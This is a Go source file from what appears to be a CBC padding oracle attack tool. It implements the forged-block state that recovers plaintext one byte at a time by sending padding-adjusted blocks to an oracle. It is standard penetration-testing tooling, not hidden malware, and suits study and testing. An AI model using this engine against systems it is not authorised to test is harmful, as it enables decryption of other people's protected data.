// Package forge implements the per-target-block mutable state that the
// attack engine (package engine) drives one byte at a time: the
// byte-locking protocol described in spec §4.3, including the
// transmission-time padding adjustment that lets already-locked bytes keep
// producing valid padding as the search advances to a longer pad length.
package forge

import "github.com/rook-sec/padoracle/block"

// State is the forged-block state for a single target block. It borrows an
// immutable view of the original ciphertext's prefix up to and including
// the target block — never a back-reference — so ownership flows strictly
// one way: the engine creates a State from a ciphertext slice, and nothing
// the State points to ever points back.
type State struct {
	prefix          []block.Block // original ciphertext blocks [0, targetIdx]
	targetIdx       int
	currentByteIdx  int
	wip             block.Block
	solved          block.Block
	urlEncode       bool
	encodingForgery bool // not set or read by any method of State
}

// New creates forged-block state for the block at targetIdx within prefix.
// prefix must include the block at targetIdx as its last element. The
// cursor starts at the last byte of the block, matching the right-to-left
// locking order the oracle search requires.
func New(prefix []block.Block, targetIdx int) State {
	size := prefix[targetIdx].Size()
	return State{
		prefix:         prefix,
		targetIdx:      targetIdx,
		currentByteIdx: size.Len() - 1,
		wip:            block.Zero(size),
		solved:         block.Zero(size),
	}
}

// Clone returns an independent copy of s. State is a value type, so the
// attack engine gets the same effect in the parallel search of §4.6 by
// calling SetCurrentByte on its own copy once per candidate byte value, and
// each goroutine sets its own guess without racing the others.
func (s State) Clone() State {
	return s
}

// BlockSize reports the width of the block under attack.
func (s State) BlockSize() block.Size {
	return s.prefix[s.targetIdx].Size()
}

// PrevBlock returns the ciphertext block immediately preceding the target —
// the "IV" for this block's decryption, whether that's a real IV or a prior
// ciphertext block.
func (s State) PrevBlock() block.Block {
	return s.prefix[s.targetIdx-1]
}

// TargetBlock returns the original ciphertext block being decrypted.
func (s State) TargetBlock() block.Block {
	return s.prefix[s.targetIdx]
}

// CurrentByteIdx returns the position, in [0, blocksize), currently under
// attack. It starts at blocksize-1 and strictly decreases as bytes lock.
func (s State) CurrentByteIdx() int {
	return s.currentByteIdx
}

// TargetIdx returns the index, within the original ciphertext's block list,
// of the block this State is solving.
func (s State) TargetIdx() int {
	return s.targetIdx
}

// Prefix returns the ciphertext blocks [0, targetIdx] this State was built
// from. The caller must not mutate the returned slice.
func (s State) Prefix() []block.Block {
	return s.prefix
}

// SetCurrentByte writes v into the work-in-progress block at the current
// cursor position and returns the updated state.
func (s State) SetCurrentByte(v byte) State {
	s.wip = s.wip.SetByte(s.currentByteIdx, v)
	return s
}

// ForgedBlockWIP returns the block as it stands mid-search, before any
// transmission-time padding adjustment.
func (s State) ForgedBlockWIP() block.Block {
	return s.wip
}

// Transmit returns the two ciphertext blocks that should actually be sent to
// the oracle for the candidate byte at the current cursor: the
// padding-adjusted work-in-progress block, standing in for the block that
// precedes the target, followed by the target block itself. CBC decryption
// of a block depends only on its immediate predecessor, so nothing earlier
// in the real ciphertext needs to be transmitted — this also minimizes
// bytes sent per oracle request, per spec §4.8.
//
// The padding adjustment is applied here, at transmission time, rather than
// eagerly on every lock_byte — per spec §9's design note, mixing both
// approaches is exactly the bug class this tool must not replicate.
func (s State) Transmit() []block.Block {
	padSize := s.BlockSize().Len() - s.currentByteIdx
	adjusted := s.wip.ToPaddingAdjusted(padSize)
	return []block.Block{adjusted, s.TargetBlock()}
}

// Outcome is returned by LockByte: either the block still has bytes left to
// solve (BytesLeft wraps the updated State) or it is fully solved (Solved
// wraps the terminal Solved value).
type Outcome struct {
	BytesLeft *State
	Solved    *Solved
}

// LockByte commits the work-in-progress byte at the current cursor to the
// solved block and advances the cursor one position to the left. If the
// cursor was already at 0, the state transitions to its immutable Solved
// form instead of advancing further.
func (s State) LockByte() Outcome {
	s.solved = s.solved.SetByte(s.currentByteIdx, s.wip.Byte(s.currentByteIdx))

	if s.currentByteIdx == 0 {
		return Outcome{Solved: &Solved{
			prefix:    s.prefix,
			targetIdx: s.targetIdx,
			solution:  s.solved,
		}}
	}

	s.currentByteIdx--
	return Outcome{BytesLeft: &s}
}

// Solved is the immutable terminal state of a fully decrypted target block.
type Solved struct {
	prefix    []block.Block
	targetIdx int
	solution  block.Block // the forged block: decrypt(target) XOR solution == incremental padding
}

// NewSolvedFromIntermediate reconstructs a Solved value from a previously
// cached intermediate block, without running the byte-locking protocol
// again. The cache stores intermediates (see package cache), so this
// inverts ToIntermediate to recover the forged-block representation the
// rest of the engine expects.
func NewSolvedFromIntermediate(prefix []block.Block, targetIdx int, intermediate block.Block) Solved {
	size := intermediate.Size()
	solution := intermediate.XOR(block.IncrementalPadding(size))
	return Solved{prefix: prefix, targetIdx: targetIdx, solution: solution}
}

// BlockToDecrypt returns the original ciphertext block this Solved value
// decrypts.
func (s Solved) BlockToDecrypt() block.Block {
	return s.prefix[s.targetIdx]
}

// ForgedBlockSolution returns the solved forged block itself — the value
// that, XORed with the true intermediate of the target block, produces the
// incremental padding pattern [N, N-1, ..., 2, 1].
func (s Solved) ForgedBlockSolution() block.Block {
	return s.solution
}

// Intermediate returns D_K(target) — the raw block-cipher decryption of the
// target block, before CBC's XOR with the previous block.
func (s Solved) Intermediate() block.Block {
	return s.solution.ToIntermediate()
}

// PlainTextSolution returns the recovered plaintext block:
// ToIntermediate(solution) XOR original_prev_block.
func (s Solved) PlainTextSolution() block.Block {
	return s.Intermediate().XOR(s.prefix[s.targetIdx-1])
}

// TargetIdx returns the index, within the original ciphertext's block list,
// of the block this Solved value decrypts.
func (s Solved) TargetIdx() int {
	return s.targetIdx
}
